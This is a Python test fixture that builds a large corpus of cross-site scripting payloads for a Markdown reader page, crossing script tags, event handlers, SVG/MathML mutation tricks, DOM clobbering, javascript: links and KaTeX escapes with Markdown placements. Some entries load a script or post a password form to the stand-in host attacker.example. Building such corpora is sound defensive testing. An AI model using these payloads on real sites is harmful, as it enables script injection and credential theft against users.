"""Text that tries to run in the reader's page: the corpus of S-30.

Used by tests/e2e and by the unit tests of the page's scripts. Made, not copied: classes of
attack times the places of Markdown where they may stand. A payload that runs calls
`__xss(…)`, or one of alert, prompt and confirm, which the tests replace.

    payloads() -> every Payload, always the same, in the same order
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass

RUN = "__xss(1)"
FOREIGN = "https://attacker.example"


@dataclass(frozen=True, slots=True)
class Payload:
    """One text, and the class of attack it belongs to."""

    kind: str
    text: str


_ELEMENTS = {
    "script": [
        f"<script>{RUN}</script>",
        f"<ScRiPt\t>{RUN}</sCrIpT\n>",
        f"<script/src=data:text/javascript,{RUN}></script>",
        f"<script src={FOREIGN}/x.js></script>",
        f"<script type=module>{RUN}</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script>{RUN}",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href=data:,{RUN} /></svg>",
        "<svg><script>&#95;&#95;xss&lpar;1&rpar;</script>",
        f"<math><script>{RUN}</script></math>",
    ],
    "handler": [
        f"<img src=x onerror={RUN}>",
        f"<img src=x onerror='{RUN}'//",
        f'<IMG """><img src=x oNeRrOr="{RUN}">',
        f"<img/src=x/onerror={RUN}>",
        "<img src=x:x onerror=&#95;&#95;xss(1)>",
        f"<body onload={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<details open ontoggle={RUN}>x</details>",
        f"<video><source onerror={RUN}></video>",
        f"<audio src=x onerror={RUN}>",
        f"<marquee onstart={RUN}>x</marquee>",
        f"<div style=animation:x onanimationstart={RUN}>x</div>",
        f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={RUN}>",
        f"<a href=https://a.example onclick={RUN} onpointerover={RUN}>x</a>",
        f"<iframe onload={RUN}></iframe>",
        f"<object data=x onerror={RUN}></object>",
        f"<xss contenteditable autofocus onfocus={RUN} tabindex=1>x</xss>",
        f"<p onpointerrawupdate={RUN}>x</p>",
    ],
    "svg": [
        f"<svg onload={RUN}>",
        f"<svg/onload={RUN}//",
        f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
        f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>',
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
        f"<svg><a><animate attributeName=href values=javascript:{RUN} /></a></svg>",
        f"<svg><set attributeName=onmouseover to={RUN}></svg>",
        f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
        f"<svg><image href=x onerror={RUN}></svg>",
        f"<svg><desc><style><img src=x onerror={RUN}></style></desc></svg>",
    ],
    "mathml": [
        f'<math href="javascript:{RUN}">x</math>',
        f'<math><mtext href="javascript:{RUN}">x</mtext></math>',
        f'<math><maction actiontype=statusline xlink:href="javascript:{RUN}">x',
        f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}>",
    ],
    "mutation": [
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
        f'<math><mtext><table><mglyph><style><img title="</style><img src=x onerror={RUN}>">',
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
        f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
        f"<svg><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
        f"<math><mi><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
        f"<table><td><svg><desc><p><style><b title='</style><img src=x onerror={RUN}>'>",
        f"<select><template><style><!--</style><a rel='--></style></template>"
        f"</select><img src=x onerror={RUN}>'>",
        f"<b><svg><title><p></svg><img src=x onerror={RUN}></b>",
        f"<![CDATA[ ><img src=x onerror={RUN}> ]]>",
        f"<svg><![CDATA[</svg><img src=x onerror={RUN}>]]>",
        f"<?xml ?><img src=x onerror={RUN}>",
        f"<!--><img src=x onerror={RUN}>-->",
        f"<!-- --!><img src=x onerror={RUN}> -->",
        f"</p/x='><img src=x onerror={RUN}>'>",
    ],
    "rawtext": [
        f"<{tag}></{tag}><img src=x onerror={RUN}>"
        for tag in (
            "title",
            "textarea",
            "style",
            "xmp",
            "noembed",
            "noframes",
            "iframe",
        )
    ]
    + [
        f'<{tag} title="</{tag}><img src=x onerror={RUN}>">'
        for tag in ("title", "textarea", "style", "xmp", "plaintext", "template")
    ],
    "namespace": [
        f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
        f"<svg><p><style><g title='</style><img src=x onerror={RUN}>'>",
        f"<math><annotation-xml><svg><p><img src=x onerror={RUN}>",
        f"<svg><foreignobject><math><mi><p><style><img src=x onerror={RUN}></style>",
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
        f"<svg:svg xmlns:svg='http://www.w3.org/2000/svg' onload={RUN} />",
    ],
    "clobber": [
        "<form id=question><input name=value></form>",
        "<img name=currentScript><img name=cookie><img name=createElement>",
        "<a id=trustedTypes></a><a id=trustedTypes name=createPolicy></a>",
        "<form name=body><input name=dataset><input name=attributes></form>",
        "<a id=messages></a><ol id=messages></ol><p id=toasts></p>",
        "<iframe name=self srcdoc='<a id=top>'></iframe>",
        f"<form id=f><button form=f formaction=javascript:{RUN}>x</button></form>",
    ],
    "document": [
        "<base href=https://attacker.example/>",
        f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<iframe src=javascript:parent.{RUN}></iframe>",
        f"<embed src=javascript:{RUN}>",
        f"<object data='data:text/html,<script>{RUN}</script>'></object>",
        f"<link rel=import href='data:text/html,<script>{RUN}</script>'>",
        f"<style>*{{background:url({FOREIGN}/css)}}</style>",
        f"<style>@import '{FOREIGN}/css';</style>",
        f"<p style='background:url({FOREIGN}/s);position:fixed;inset:0'>x</p>",
        f"<form action={FOREIGN}><input type=password name=p><button>x</button></form>",
        f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
        f"<dialog open><img src=x onerror={RUN}></dialog>",
    ],
    "unclosed": [
        f"<img src=x onerror={RUN} ",
        f"<img src='x' onerror='{RUN}' <b>",
        f'<a href="javascript:{RUN}',
        f"<svg onload={RUN} <",
        f"</script><svg onload={RUN}>",
        f"<pre><code>&lt;x&gt; <img src=x onerror={RUN} x=`y`",
        f"<kbd> <a class=button href=javascript:{RUN} x=`>x",
        f"<code> <img src=x onerror={RUN} =`>",
        f"< img src=x onerror={RUN}>",
        f"<\x00img src=x onerror={RUN}>",
        f"<img\x0csrc=x\x0bonerror={RUN}>",
        f"＜img src=x onerror={RUN}＞",
        f"&lt;img src=x onerror={RUN}&gt;",
        f"&#60;img src=x onerror={RUN}&#x3e;",
        f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
        f"\\<img src=x onerror={RUN}\\>",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    ],
    "template": [
        "{{constructor.constructor('__xss(1)')()}}",
        "${__xss(1)}",
        "<%= __xss(1) %>",
        "{% debug %}{{ settings.SECRET_KEY }}",
        "{url}{message}{title} $& $1 $`",
        "#{__xss(1)} [[__xss(1)]] @{__xss(1)}",
    ],
    "bidi": [
        f"\u202e<img src=x onerror={RUN}>\u202c",
        f"\u2066<script>{RUN}</script>\u2069",
        f"<i\u200bmg src=x onerror={RUN}><img\u00a0src=x onerror={RUN}>",
        f"\ufeff<svg onload={RUN}>\ufeff",
        f"<img src=x onerror=\u2028{RUN}\u2029>",
        f"\ud83d\ude00<img src=x onerror={RUN}>e\u0301\u0301",
        f"<ſcript>{RUN}</ſcript><\u0130mg onerror={RUN}>",
    ],
}

# Where in Markdown the text may stand; `%` is its place.
_PLACES = [
    "%",
    "Before % after",
    "> quoted\n> %",
    "- one\n- %\n- three",
    "1. [ ] %",
    "# %\n\ntext",
    "| a | % |\n|---|:-:|\n| % | b |",
    "**bold % *and***",
    "~~~% lang\ncode\n~~~",
    "```html %\n%\n```",
    "```%",
    "`code` % `` ` %",
    "[words %](https://a.example)",
    '[words](https://a.example "% title")',
    "![% alt](https://a.example/i.png '%')",
    "[%]: https://a.example '%'\n\n[%] and ![%][%]",
    "text[^1]\n\n[^1]: %",
    "<div>\n\n%\n\n</div>",
    "<pre>\n%",
    "a <kbd>% and <b",
    "line  \n%\\\nline",
    "    %\n\n%",
    "<https://a.example/%>",
    "https://a.example/?q=% www.a.example/%",
    "<!-- % -->\n%",
    "Title %\n===\n***\n%",
]

_SCHEMES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;&#x61;vascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script&colon;{RUN}",
    f"\x01javascript:{RUN}",
    f"\x1fjavascript:{RUN}",
    f"&#1;javascript:{RUN}",
    f"\u00a0javascript:{RUN}",
    f"%6Aavascript:{RUN}",
    f"javascript://a.example/%0a{RUN}",
    f"javascript:https://a.example/{RUN}",
    f"\\javascript:{RUN}",
    f"vbscript:{RUN}",
    "VbScript:msgbox",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"blob:https://a.example/{RUN}",
    "file:///etc/passwd",
    "intent://x#Intent;scheme=http;end",
    "ftp://a.example/x",
    f'https://a.example/"onmouseover="{RUN}',
    f"https://a.example/'onmouseover='{RUN}",
    f"https://a.example/&quot;onmouseover=&quot;{RUN}",
    f"https:javascript:{RUN}",
    f"mailto:a@a.example?body=<script>{RUN}</script>",
    "//a.example/x",
]
_LINKS = [
    "[words](%)",
    "[words](<%>)",
    "![alt](%)",
    "<%>",
    "[words]\n\n[words]: <%> 'title'",
    '<a href="%">words</a>',
]


def payloads() -> list[Payload]:
    """Every payload once. Each element stands in several places, each link in each form."""
    found: dict[str, Payload] = {}

    def add(kind: str, text: str) -> None:
        found.setdefault(text, Payload(kind, text))

    elements = [(kind, text) for kind, texts in _ELEMENTS.items() for text in texts]
    places = itertools.cycle(_PLACES[1:])
    for kind, text in elements:
        add(kind, text)
        for place in itertools.islice(places, 3):
            add(kind, place.replace("%", text))
    image = _ELEMENTS["handler"][0]
    for place in _PLACES:
        add("place", place.replace("%", image))
    for url, link in itertools.product(_SCHEMES, _LINKS):
        add("link", link.replace("%", url))
    for text in _deep():
        add("depth", text)
    for tex, formula in itertools.product(_TEX, _FORMULAS):
        add("tex", formula.replace("%", tex))
    for first, second in itertools.pairwise(elements[::9]):
        add("mixture", f"{first[1]}\n\n*{second[1]}* `{first[1]}`\n\n- {second[1]}")
    return list(found.values())


# What KaTeX can be asked for, and what may break out of the MathML that it makes.
_TEX = [
    rf"\href{{javascript:{RUN}}}{{x}}",
    rf"\url{{javascript:{RUN}}}",
    rf"\includegraphics[alt={RUN}]{{{FOREIGN}/x.png}}",
    rf"\htmlData{{x=1, onclick={RUN}}}{{x}}",
    rf"\htmlStyle{{background:url({FOREIGN})}}{{x}}",
    r"\htmlId{composer}{x}\htmlClass{modal}{x}",
    rf"\text{{<img src=x onerror={RUN}>}}",
    rf"</math><img src=x onerror={RUN}>",
    rf"<mtext></mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph>",
    rf"\text{{</annotation-xml><script>{RUN}</script>}}",
    rf"\color{{red;background:url({FOREIGN})}}x",
    rf'\colorbox{{red" onclick="{RUN}}}{{x}}',
    r"\def\a{\a\a}\a",
    r"\def\a#1{#1#1}\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{x}}}}}}}}}}}}",
    r"\rule{9999em}{9999em}\kern{9999em}\raisebox{9999em}{x}",
    "{" * 900 + "}" * 900,
]
_FORMULAS = ["$%$", r"a \(%\) b", "$$%$$", "text\n\\[\n%\n\\]\nmore", "- $%$ `$%$`"]


def _deep() -> list[str]:
    image = _ELEMENTS["handler"][0]
    return [
        "<div>" * 60 + image,
        "> " * 60 + image,
        "<b><i>" * 40 + image + "</b></i>" * 40,
        "".join("  " * level + "- a\n" for level in range(20)) + image,
        "[" * 60 + image + "](https://a.example)" * 10,
        "*" * 60 + image + "*" * 60,
        "<svg><g>" * 30 + image,
        "<table><tr><td>" * 20 + image,
        "![" * 40 + image + "](x)" * 40,
        "`" * 50 + image + "`" * 49,
    ]
